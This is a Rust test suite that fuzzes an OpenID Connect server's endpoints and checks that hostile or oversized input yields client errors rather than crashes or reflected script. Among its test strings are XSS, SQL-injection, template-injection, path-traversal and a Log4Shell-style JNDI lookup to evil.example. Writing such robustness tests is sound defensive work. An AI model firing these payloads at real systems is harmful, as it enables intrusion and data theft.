//! Whatever a stranger sends is answered by a page or an error of theirs: never by one of ours.

use std::panic::AssertUnwindSafe;

use axum::{
    body::Body,
    http::{HeaderValue, Request},
};
use proptest::{collection::vec, prelude::*, test_runner::TestRunner};
use serde_json::json;
use vestibule::urls::path;

use crate::{
    app::{Answer, TestApp},
    databases::{Kind, TestDatabase, on, on_every_database},
};

on_every_database!(
    markup_and_statements_are_only_text,
    more_than_anybody_needs_is_refused,
    json_that_is_deep_huge_or_none_is_refused,
);

/// Bytes that often look like what is expected, and often do not.
fn bytes() -> impl Strategy<Value = Vec<u8>> {
    let words = prop::sample::select(vec![
        "client_id=",
        "client_id=app",
        "&",
        "=",
        "%",
        "%00",
        "%ff",
        "+",
        "redirect_uri=",
        "https%3A%2F%2Frp.example%2Fcb",
        "response_type=code",
        "scope=openid",
        "state=",
        "nonce=",
        "prompt=none",
        "prompt=login",
        "max_age=-1",
        "max_age=99999999999999999999",
        "claims=%7B%22id_token%22%3A%7B%7D%7D",
        "claims=%5B%5B%5B",
        "code_challenge=",
        "code_challenge_method=S256",
        "vestibule_posted=a.b.c",
        "id_token_hint=a.b.c",
        "flow=AQ",
        "ui_locales=de",
        "grant_type=authorization_code",
        "grant_type=client_credentials",
        "code=",
        "client_secret=",
        "client_assertion=e30.e30.e30",
        "username=",
        "password=",
        "csrf=",
        "response_mode=form_post",
        "resource=",
        "acr_values=",
        "display=",
        "registration=",
    ]);
    let piece = prop_oneof![
        4 => words.prop_map(|word| word.as_bytes().to_vec()),
        1 => vec(any::<u8>(), 0..12),
        1 => ".{0,6}".prop_map(String::into_bytes),
    ];
    vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

/// As bytes of a URL: what HTTP does not let through at all is encoded.
fn as_query(bytes: &[u8]) -> String {
    let mut query = String::new();
    for byte in bytes {
        match byte {
            b'!' | b'$'..=b';' | b'=' | b'?'..=b'Z' | b'_' | b'a'..=b'z' | b'~' => {
                query.push(char::from(*byte));
            }
            other => query += &format!("%{other:02X}"),
        }
    }
    query
}

fn request(method: &str, uri: &str, headers: &[(&str, &[u8])], body: &[u8]) -> Request<Body> {
    let mut request = Request::builder().method(method).uri(uri);
    for (name, value) in headers {
        if let Ok(value) = HeaderValue::from_bytes(value) {
            request = request.header(*name, value);
        }
    }
    request.body(body.to_vec().into()).unwrap()
}

/// Holds an answer to be the stranger's fault or nobody's.
fn judge(what: &str, answer: &Answer) -> Result<(), TestCaseError> {
    let status = answer.status;
    prop_assert!(
        !status.is_server_error(),
        "{what}: {status} {}",
        answer.text()
    );
    prop_assert!(!answer.header("traceparent").is_empty(), "{what}: {status}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_bytes_anywhere_make_the_server_fail() {
    on(Kind::Sqlite, |database| async move {
        let app = TestApp::configured(&database, &["limits.enabled=false"]).await;
        app.client(json!({ "client_id": "app" })).await;
        let before = app.rows().await;
        let probe = app.clone();
        tokio::task::spawn_blocking(move || probe_it(&AssertUnwindSafe(probe)))
            .await
            .unwrap();
        let after = app.rows().await;
        for table in [
            "users",
            "clients",
            "sessions",
            "grants",
            "consents",
            "signing_keys",
        ] {
            assert_eq!(before.table(table), after.table(table), "{table}");
        }
    })
    .await;
}

fn probe_it(app: &TestApp) {
    let runtime = tokio::runtime::Handle::current();
    let send = |what: &str, request| judge(what, &runtime.block_on(app.send(request)));
    let form = ("content-type", &b"application/x-www-form-urlencoded"[..]);
    let config = ProptestConfig {
        cases: 32,
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    TestRunner::new(config)
        .run(&(bytes(), bytes()), |(bytes, other)| {
            let query = as_query(&bytes);
            for path in [
                path::AUTHORIZE,
                path::LOGIN,
                path::CONSENT,
                path::LOGOUT,
                path::USERINFO,
            ] {
                send(path, request("GET", &format!("{path}?{query}"), &[], b""))?;
            }
            for path in [
                path::TOKEN,
                path::LOGIN,
                path::AUTHORIZE,
                path::CONFIRM_LOGOUT,
                path::PREFERENCES,
            ] {
                send(path, request("POST", path, &[form], &bytes))?;
                send(
                    path,
                    request("POST", path, &[("content-type", &other)], &bytes),
                )?;
            }
            let session = [b"__Host-vestibule_session=", &other[..]].concat();
            let browser = [b"__Host-vestibule_browser=", &bytes[..], b"; ", &session].concat();
            let basic = [b"Basic ", &bytes[..]].concat();
            let bearer = [b"Bearer ", &bytes[..]].concat();
            for (name, value) in [
                ("cookie", &browser),
                ("cookie", &bytes),
                ("accept-language", &bytes),
                ("authorization", &basic),
                ("authorization", &bearer),
                ("authorization", &bytes),
                ("traceparent", &bytes),
                ("origin", &bytes),
                ("x-forwarded-for", &bytes),
                ("accept", &bytes),
            ] {
                let headers = [form, (name, &value[..])];
                send(name, request("GET", path::HOME, &headers, b""))?;
                send(name, request("GET", path::USERINFO, &headers, b""))?;
                send(name, request("POST", path::TOKEN, &headers, &other))?;
            }
            Ok(())
        })
        .unwrap();
}

async fn markup_and_statements_are_only_text(database: TestDatabase) {
    let app = TestApp::on(&database).await;
    let client = app.client(json!({})).await;
    for text in [
        "<script>alert(1)</script>",
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "{{ 'qq' ~ 'zz' }}{% if true %}",
        "${jndi:ldap://evil.example}",
        "\u{0}",
        "../../../etc/passwd",
        "\u{202e}\u{feff}\u{d7ff}",
    ] {
        for name in [
            "client_id",
            "redirect_uri",
            "scope",
            "state",
            "nonce",
            "prompt",
            "claims",
            "login_hint",
            "ui_locales",
            "id_token_hint",
            "display",
            "request",
        ] {
            let url = client.url_of(&client.request().set(name, text));
            let page = app.browser().open(&url).await;
            assert!(!page.status().is_server_error(), "{name}={text}");
            let html = page.answer.text();
            assert!(
                !html.contains("<script>alert") && !html.contains("qqzz"),
                "{name}={text}"
            );
            assert!(!page.has("script:not([src])"), "{name}={text}");
        }
        let fields = [
            ("grant_type", "authorization_code"),
            ("code", text),
            ("client_id", text),
        ];
        let answer = app.anon().post(path::TOKEN, &fields).await;
        assert!(answer.status.is_client_error(), "{text}: {}", answer.status);
        assert!(!answer.text().contains("alert"), "{text}");
    }
    app.user("ada").await;
}

async fn more_than_anybody_needs_is_refused(database: TestDatabase) {
    let app = TestApp::on(&database).await;
    let client = app.client(json!({})).await;
    let deep = format!("{}{}", "[".repeat(8_000), "]".repeat(8_000));
    let objects = "{\"a\":".repeat(3_000);
    for (name, value) in [
        ("claims", deep.as_str()),
        ("claims", objects.as_str()),
        ("state", &"x".repeat(40_000)),
        ("scope", &"a ".repeat(7_000)),
        ("ui_locales", &"de ".repeat(5_000)),
        ("id_token_hint", &"e30.".repeat(3_000)),
    ] {
        let page = app
            .browser()
            .open(&client.url_of(&client.request().set(name, value)))
            .await;
        assert!(
            !page.status().is_server_error(),
            "{name}: {}",
            page.status()
        );
    }
    let many: String = (0..10_000).map(|n| format!("p{n}=1&")).collect();
    for path in [path::TOKEN, path::LOGIN, path::AUTHORIZE, path::PREFERENCES] {
        let answer = app.anon().post_raw(path, many.clone()).await;
        assert!(
            [400, 413].contains(&answer.status.as_u16()),
            "{path}: {}",
            answer.status
        );
        let answer = app.anon().post_raw(path, "x".repeat(1_000_000)).await;
        assert!(
            [400, 413].contains(&answer.status.as_u16()),
            "{path}: {}",
            answer.status
        );
        for kind in [
            "application/json",
            "multipart/form-data; boundary=x",
            "text/plain",
            "",
        ] {
            let headers = [("content-type", kind)];
            let answer = app
                .anon()
                .request("POST", path, "{}".into(), &headers)
                .await;
            assert!(
                [400, 415].contains(&answer.status.as_u16()),
                "{path}: {}",
                answer.status
            );
        }
    }
}

async fn json_that_is_deep_huge_or_none_is_refused(database: TestDatabase) {
    let app = TestApp::configured(&database, &["limits.enabled=false"]).await;
    let ada = app.user("ada").await;
    let scope = "openid account:profile";
    let client = app
        .client(json!({ "scope": scope, "skip_consent": true }))
        .await;
    let request = client.request().set("scope", scope);
    let token = client.sign_in_with(&ada, &request).await.access_token;
    let bearer = format!("Bearer {token}");
    let before = app.rows().await;
    let deep = format!(
        "{{\"nickname\":{}{}}}",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let deeper = "{\"nickname\":".repeat(10_000);
    let huge = format!("{{\"nickname\":\"{}\"}}", "x".repeat(1_000_000));
    let many: Vec<String> = (0..10_000).map(|n| format!("\"p{n}\":1")).collect();
    let many = format!("{{{}}}", many.join(","));
    let bodies: [&[u8]; 8] = [
        deep.as_bytes(),
        deeper.as_bytes(),
        huge.as_bytes(),
        many.as_bytes(),
        b"{\"nickname\":\"\xff\xfe\"}",
        b"{\"nickname\":\"a\0b\"}",
        b"",
        b"\x1f\x8b\x08\x00",
    ];
    for body in bodies {
        for encoding in ["identity", "gzip"] {
            let headers = [
                ("authorization", bearer.as_str()),
                ("content-type", "application/json"),
                ("content-encoding", encoding),
            ];
            let url = app.url(path::ACCOUNT_API);
            let anon = app.anon();
            let answer = anon
                .request("PATCH", &url, body.to_vec().into(), &headers)
                .await;
            let status = answer.status.as_u16();
            let shown = String::from_utf8_lossy(&body[..body.len().min(20)]);
            assert!(
                (400..500).contains(&status),
                "{shown}: {status} {}",
                answer.text()
            );
            assert!(answer.text().len() < 20_000, "{shown}");
        }
    }
    assert_eq!(app.rows().await.table("users"), before.table("users"));
}
